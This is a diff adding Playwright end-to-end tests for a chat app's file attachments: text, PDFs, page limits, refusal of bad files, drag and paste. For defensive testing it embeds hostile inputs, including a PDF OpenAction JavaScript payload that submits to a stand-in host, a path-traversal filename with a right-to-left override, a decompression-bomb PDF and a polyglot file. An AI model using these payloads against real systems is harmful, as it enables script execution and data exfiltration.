@@ -1,0 +1,235 @@
+import { readFile } from 'node:fs/promises'
+import type { Page } from '@playwright/test'
+import { bombPdfBytes, encryptedPdfBytes, pdfBytes } from './support/pdf-bytes'
+import { expect, test, type UpstreamControl } from './support/test'
+
+interface TestFile {
+  name: string
+  mimeType: string
+  buffer: Buffer
+}
+
+const pdf = (name: string, buffer: Buffer): TestFile => ({ name, mimeType: 'application/pdf', buffer })
+const NOTES = Buffer.from('Coins were struck in Lydia – around 600 BC.\r\n')
+
+function attach(page: Page, file: TestFile) {
+  return page.locator('form input[type="file"]').setInputFiles(file)
+}
+
+const draftsOn = (page: Page) => page.getByRole('list', { name: 'Attached documents' })
+const sendOn = (page: Page) => page.getByRole('button', { name: 'Send' })
+
+async function chooseModel(page: Page, name: string) {
+  await page.getByRole('combobox', { name: 'Model' }).click()
+  await expect(page.getByRole('dialog').getByRole('combobox')).toBeFocused()
+  await page.keyboard.type(name)
+  await page.keyboard.press('Enter')
+  await expect(page.getByRole('combobox', { name: 'Model' })).toContainText(new RegExp(name, 'i'))
+}
+
+test.beforeEach(({ upstream }) => upstream.setScript({ chat: { steps: [{ type: 'text', text: 'Read.' }] } }))
+
+/** The reading of a file may have slowed everything down; what counts is that the answer comes. */
+async function expectAnswer(page: Page, count = 1) {
+  const answers = page.getByRole('article', { name: 'Assistant message' })
+  await expect(answers).toHaveCount(count)
+  await expect(answers.last()).toContainText('$', { timeout: 20_000 })
+}
+
+/** What the last question that reached the upstream was made of. */
+async function lastContent(upstream: UpstreamControl): Promise<unknown> {
+  const asked = (await upstream.requests()).findLast(({ path }) => path === '/chat/completions')
+  const body = asked?.body
+  if (typeof body !== 'object' || body === null || !('messages' in body)) return null
+  return Array.isArray(body.messages) ? body.messages.at(-1)?.content : null
+}
+
+test('a text file is attached, survives a reload, is sent as text and saved again', async ({
+  page,
+  funded,
+  upstream,
+}) => {
+  expect(funded.creditId).not.toBe('')
+  await page.goto('/')
+  await attach(page, { name: '../../notes\u202e.md', mimeType: 'text/markdown', buffer: NOTES })
+  await expect(draftsOn(page)).toContainText('notes .md')
+  await expect(draftsOn(page)).toContainText('sent as text')
+  await page.reload()
+  await expect(draftsOn(page)).toContainText('notes .md')
+  await page.getByRole('textbox', { name: 'Message' }).fill('When?')
+  await sendOn(page).click()
+  await expectAnswer(page)
+  await expect(draftsOn(page)).toHaveCount(0)
+  expect(await lastContent(upstream)).toEqual([
+    { type: 'text', text: 'When?' },
+    {
+      type: 'text',
+      text: '[Document "notes .md"]\n\nCoins were struck in Lydia – around 600 BC.\n\n\n[End of Document "notes .md"]',
+    },
+  ])
+  const download = page.waitForEvent('download')
+  await page
+    .getByRole('article', { name: 'Your message' })
+    .getByRole('button', { name: 'Save notes .md' })
+    .click()
+  expect((await download).suggestedFilename()).toBe('notes .md')
+  expect(await readFile(await (await download).path())).toEqual(NOTES)
+
+  await page.getByRole('textbox', { name: 'Message' }).fill('And where?')
+  await sendOn(page).click()
+  await expectAnswer(page, 2)
+  const asked = (await upstream.requests()).findLast(({ path }) => path === '/chat/completions')
+  expect(JSON.stringify(asked?.body)).toContain('struck in Lydia')
+})
+
+test('the text of a PDF is read in a worker that is ended, and nothing in it runs', async ({
+  page,
+  funded,
+  upstream,
+}) => {
+  expect(funded.creditId).not.toBe('')
+  let dialogCount = 0
+  page.on('dialog', dialog => {
+    dialogCount += 1
+    void dialog.dismiss()
+  })
+  const foreign: string[] = []
+  page.on('request', request => {
+    if (request.url().includes('canary.invalid')) foreign.push(request.url())
+  })
+  await page.goto('/')
+  const started = page.waitForEvent('worker')
+  const script =
+    '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://canary.invalid"\\)) >>'
+  await attach(page, pdf('report.pdf', pdfBytes({ pages: ['First page', 'Second page'], catalog: script })))
+  await started
+  await expect(draftsOn(page)).toContainText('2 pages')
+  await expect.poll(() => page.workers().length).toBe(0)
+  await sendOn(page).click()
+  await expectAnswer(page)
+  expect(await lastContent(upstream)).toEqual([
+    {
+      type: 'text',
+      text: '[Document "report.pdf", 2 pages]\n\nFirst page\n\nSecond page\n\n[End of Document "report.pdf"]',
+    },
+  ])
+  expect([dialogCount, foreign]).toEqual([0, []])
+})
+
+test('of 10,000 pages the first 300 are read, and that is said', async ({ page, funded, upstream }) => {
+  test.slow()
+  expect(funded.creditId).not.toBe('')
+  await page.goto('/')
+  const pages = Array.from({ length: 10_000 }, (_, index) => `Page ${index + 1}.`)
+  await attach(page, pdf('endless.pdf', pdfBytes({ pages })))
+  await expect(draftsOn(page)).toContainText('10,000 pages', { timeout: 20_000 })
+  await expect(draftsOn(page)).toContainText('beginning only')
+  await sendOn(page).click()
+  await expectAnswer(page)
+  const content = JSON.stringify(await lastContent(upstream))
+  expect(content).toContain('Page 300.')
+  expect(content).not.toContain('Page 301.')
+})
+
+test('of a page that unfolds to megabytes only the beginning is read', async ({ page }) => {
+  test.slow()
+  await page.goto('/')
+  await attach(page, pdf('bomb.pdf', bombPdfBytes()))
+  await expect(draftsOn(page)).toContainText('beginning only', { timeout: 20_000 })
+  await expect.poll(() => page.workers().length).toBe(0)
+})
+
+const whole = pdfBytes({ pages: ['Whole'] })
+const REFUSED: readonly [string, TestFile, string][] = [
+  ['encrypted', pdf('secret.pdf', encryptedPdfBytes()), 'protected by a password'],
+  ['cut off in its middle', pdf('half.pdf', whole.subarray(0, 60)), 'damaged or cannot be read'],
+  [
+    'a zip archive by its bytes',
+    pdf('archive.pdf', Buffer.from('PK\u0003\u0004 and more')),
+    'neither text nor a PDF',
+  ],
+  [
+    'two formats at once',
+    pdf('both.pdf', Buffer.concat([Buffer.from('GIF89a'), whole])),
+    'neither text nor a PDF',
+  ],
+  ['larger than is read', pdf('huge.pdf', Buffer.alloc(20 * 1024 * 1024 + 1)), 'larger than 20 MB'],
+  ['empty', pdf('nothing.pdf', Buffer.alloc(0)), 'is empty'],
+]
+
+test('hostile and unreadable files are refused with the reason', async ({ page }) => {
+  test.slow()
+  await page.goto('/')
+  await expect(page.getByRole('button', { name: 'Attach file' })).toBeVisible()
+  for (const [what, file, reason] of REFUSED) {
+    await attach(page, file)
+    await expect(page.getByRole('status').filter({ hasText: reason }), what).toContainText(file.name)
+    await expect(draftsOn(page)).toHaveCount(0)
+  }
+  await expect.poll(() => page.workers().length).toBe(0)
+})
+
+test('a PDF without text goes whole, and only to a model that takes files', async ({
+  page,
+  funded,
+  upstream,
+}) => {
+  expect(funded.creditId).not.toBe('')
+  await page.goto('/')
+  await chooseModel(page, 'small')
+  const scan = pdfBytes({ pages: [''] })
+  await attach(page, pdf('scan.pdf', scan))
+  await expect(draftsOn(page)).toContainText('No text can be read in it')
+  await page.getByRole('textbox', { name: 'Message' }).fill('What does it say?')
+  await expect(sendOn(page)).toBeDisabled()
+  await chooseModel(page, 'large')
+  await expect(draftsOn(page)).toContainText('sent as a whole file')
+  await sendOn(page).click()
+  await expectAnswer(page)
+  const file = { filename: 'scan.pdf', file_data: `data:application/pdf;base64,${scan.toString('base64')}` }
+  expect(await lastContent(upstream)).toEqual([
+    { type: 'text', text: 'What does it say?' },
+    { type: 'file', file },
+  ])
+})
+
+test('a PDF with text goes whole on request, and can be taken away by keyboard', async ({
+  page,
+  funded,
+  upstream,
+}) => {
+  expect(funded.creditId).not.toBe('')
+  await page.goto('/')
+  await chooseModel(page, 'large')
+  await attach(page, pdf('chart.pdf', whole))
+  await page.getByRole('checkbox', { name: 'Send the whole file' }).check()
+  await attach(page, { name: 'extra.txt', mimeType: 'text/plain', buffer: Buffer.from('Extra') })
+  await expect(draftsOn(page).getByRole('listitem')).toHaveCount(2)
+  await page.getByRole('button', { name: 'Remove extra.txt' }).focus()
+  await page.keyboard.press('Enter')
+  await expect(draftsOn(page).getByRole('listitem')).toHaveCount(1)
+  await sendOn(page).click()
+  await expectAnswer(page)
+  const file = { filename: 'chart.pdf', file_data: `data:application/pdf;base64,${whole.toString('base64')}` }
+  expect(await lastContent(upstream)).toEqual([{ type: 'file', file }])
+})
+
+for (const kind of ['drop', 'paste'] as const) {
+  test(`a file that arrives by ${kind} is attached @phone`, async ({ page }) => {
+    await page.goto('/')
+    await expect(page.getByRole('button', { name: 'Attach file' })).toBeVisible()
+    await page.getByRole('textbox', { name: 'Message' }).evaluate((box, type) => {
+      const data = new DataTransfer()
+      data.items.add(new File(['name,amount\nAda,1'], 'list.csv', { type: 'text/csv' }))
+      const options = { bubbles: true, cancelable: true }
+      box.dispatchEvent(
+        type === 'drop'
+          ? new DragEvent('drop', { ...options, dataTransfer: data })
+          : new ClipboardEvent('paste', { ...options, clipboardData: data }),
+      )
+    }, kind)
+    await expect(draftsOn(page)).toContainText('list.csv')
+    const width = await page.evaluate(() => [document.documentElement.scrollWidth, window.innerWidth])
+    expect(width[0]).toBe(width[1])
+  })
+}
